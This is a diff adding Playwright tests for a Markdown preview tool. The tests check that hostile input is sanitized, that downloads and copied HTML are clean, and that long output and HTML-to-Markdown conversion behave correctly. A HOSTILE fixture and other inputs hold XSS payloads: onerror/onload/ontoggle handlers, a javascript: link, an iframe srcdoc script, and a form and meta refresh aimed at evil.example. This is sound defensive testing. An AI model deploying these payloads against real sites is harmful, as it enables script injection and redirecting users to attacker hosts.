@@ -1,0 +1,146 @@
+import { readFileSync } from 'node:fs';
+import type { Page } from '@playwright/test';
+import MarkdownIt from 'markdown-it';
+import footnote from 'markdown-it-footnote';
+import { PREVIEW_CHARS } from '../src/core/shared/text-result';
+import { editorValue, expectEditorValue, pasteInto } from './editor';
+import { expect, test } from './fixtures';
+import { button, tab } from './format-minify-validate';
+
+const field = (page: Page, name: string) => page.getByRole('textbox', { name, exact: true });
+const preview = (page: Page) => page.getByTestId('rendered-html');
+
+/** A document that would run script, fetch, post, restyle or leave the page if its HTML went in as it is. */
+const HOSTILE = `# Hostile
+
+<img src=x onerror="window.__ran = 'img'; alert(1)">
+
+[a link](javascript:window.__ran='link')
+
+<svg onload="window.__ran = 'svg'"><script>window.__ran = 'svg script'</script><circle r="4"/></svg>
+
+<iframe src="https://evil.example/" srcdoc="<script>parent.__ran = 'iframe'</script>"></iframe>
+
+<form action="https://evil.example/"><input name="q"><button>Send</button></form>
+
+<style>main { display: none }</style>
+
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+
+<details open ontoggle="window.__ran = 'details'">x</details>
+
+<p style="position:fixed;inset:0;background:url(https://evil.example/t.png)">overlay</p>
+
+![A remote cat](https://evil.example/cat.png)
+
+Still here.
+`;
+
+test('a hostile document runs, fetches and navigates nothing; remote images are placeholders', async ({ page }) => {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await page.goto('/tools/markdown-preview');
+  const url = page.url();
+  await pasteInto(field(page, 'Markdown input'), HOSTILE);
+  await expect(preview(page)).toContainText('Still here.', { timeout: 15_000 });
+  await expect(preview(page).getByRole('heading', { name: 'Hostile' })).toBeVisible();
+  // The placeholder says what the image was and why it is not shown.
+  await expect(preview(page).getByRole('img', { name: /A remote cat/ })).toHaveText(
+    'Image not loaded (A remote cat): this page fetches nothing from other sites, https://evil.example/cat.png.',
+  );
+  await expect(preview(page).getByRole('img', { name: /Image not loaded: this page/ })).toHaveCount(1);
+  const inserted = await preview(page).evaluate((box) => ({
+    elements: [...box.querySelectorAll('script, iframe, form, style, meta, img')].map((e) => e.tagName),
+    handlers: [...box.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name))),
+    styled: box.querySelectorAll('[style]').length,
+    link: box.querySelector('a')?.getAttribute('href') ?? null,
+  }));
+  expect(inserted).toEqual({ elements: [], handlers: [], styled: 0, link: null });
+  await expect(page.locator('main')).toBeVisible();
+  // The link without its javascript: address goes nowhere when clicked.
+  await preview(page).getByText('a link').click();
+  await preview(page).locator('details').click();
+  await page.waitForTimeout(500);
+  expect(await page.evaluate(() => (window as unknown as { __ran?: string }).__ran)).toBeUndefined();
+  expect(dialogs).toEqual([]);
+  expect(page.url()).toBe(url);
+  // The HTML tab shows the source as text: what markdown-it wrote, raw HTML and all (never inserted as HTML).
+  await tab(page, 'HTML').click();
+  await expect(field(page, 'HTML source')).toContainText('onerror=');
+});
+
+test('Download page is a standalone file of the sanitized HTML with its CSS inline; Copy HTML copies it', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.goto('/tools/markdown-preview');
+  await pasteInto(
+    field(page, 'Markdown input'),
+    '# Notes\n\n- [x] done\n\n```js\nlet a = 1;\n```\n\n<img src=x onerror=alert(1)>',
+  );
+  await expect(preview(page).getByRole('heading', { name: 'Notes' })).toBeVisible({ timeout: 15_000 });
+  const download = page.waitForEvent('download');
+  await button(page, 'Download page').click();
+  const file = await download;
+  expect(file.suggestedFilename()).toBe('document.html');
+  const saved = readFileSync(await file.path(), 'utf8');
+  expect(saved).toMatch(/^<!doctype html>\n<html lang="en">/);
+  expect(saved).toContain('<style>');
+  expect(saved).toContain('.kit-html .tok-comment');
+  expect(saved).toContain('<h1>Notes</h1>');
+  expect(saved).toContain('<span class="tok-keyword">let</span>');
+  expect(saved).toContain('<img src="x">');
+  expect(saved).not.toMatch(/onerror|<script/i);
+
+  await button(page, 'Copy HTML').click();
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  expect(copied).toContain('<h1>Notes</h1>');
+  expect(copied).not.toContain('onerror');
+});
+
+/** markdown-it in Node, set up as the tool's (without its task lists and highlighting, which this text has none of). */
+const oracle = new MarkdownIt({ html: true, linkify: true }).use(footnote);
+
+test('long Markdown renders in the worker on the button as markdown-it does in Node; its preview past the limit says why', async ({
+  page,
+}) => {
+  await page.goto('/tools/markdown-preview');
+  const section = (i: number) =>
+    `## Section ${i}\n\nSome *text* with **bold**, a [link](https://example.com/${i}) and \`code\`.\n\n` +
+    `| a | b |\n| - | - |\n| ${i} | ~~x~~ |\n\n> quoted ${i}\n\n1. one\n2. two\n\n`;
+  const text = Array.from({ length: 400 }, (_, i) => section(i)).join('');
+  expect(text.length).toBeGreaterThan(60_000);
+  await pasteInto(field(page, 'Markdown input'), text);
+  await button(page, 'Markdown → HTML').click();
+  await expect(page.getByTestId('output-note')).toContainText('Too long to preview', { timeout: 30_000 });
+  await tab(page, 'HTML').click();
+  const html = oracle.render(text);
+  expect(html.length).toBeGreaterThan(PREVIEW_CHARS);
+  // The pane shows the start of a long output; its Download takes it all.
+  await expectEditorValue(field(page, 'HTML source'), html.slice(0, PREVIEW_CHARS), 30_000);
+  const download = page.waitForEvent('download');
+  await button(page, 'Download').click();
+  expect(readFileSync(await (await download).path(), 'utf8')).toBe(html);
+});
+
+test('HTML → Markdown turns a page into GFM; the Markdown renders back', async ({ page }) => {
+  await page.goto('/tools/markdown-preview');
+  await tab(page, 'HTML → Markdown').click();
+  await pasteInto(
+    field(page, 'HTML input'),
+    '<h2>Steps</h2><ol><li>Open</li><li>Close</li></ol><table><thead><tr><th>k</th></tr></thead><tbody><tr><td>v</td></tr></tbody></table><script>alert(1)</script>',
+  );
+  await expectEditorValue(
+    field(page, 'Markdown'),
+    '## Steps\n\n1.  Open\n2.  Close\n\n| k |\n| --- |\n| v |\n',
+    15_000,
+  );
+  const markdown = await editorValue(field(page, 'Markdown'));
+  await tab(page, 'Markdown → HTML').click();
+  await pasteInto(field(page, 'Markdown input'), markdown);
+  await expect(preview(page).getByRole('cell', { name: 'v' })).toBeVisible({ timeout: 15_000 });
+});
